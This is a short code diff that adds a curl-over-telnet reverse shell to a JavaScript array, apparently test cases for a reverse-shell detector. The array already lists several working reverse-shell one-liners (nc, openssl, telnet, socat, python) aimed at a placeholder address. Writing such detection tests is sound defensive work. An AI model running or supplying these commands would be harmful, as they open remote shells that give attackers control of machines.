@@ -16,6 +16,7 @@ const CERTAIN = [
   'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f',
   'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:4444 > /tmp/s',
   'telnet 203.0.113.9 80 | /bin/sh | telnet 203.0.113.9 81',
+  `C='curl -Ns telnet://203.0.113.9:4444'; $C </dev/null 2>&1 | sh 2>&1 | $C >/dev/null`,
   "socat TCP:203.0.113.9:4444 EXEC:'bash -li',pty,stderr",
   'socat exec:/bin/sh tcp-connect:203.0.113.9:4444',
   'python3 -c import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
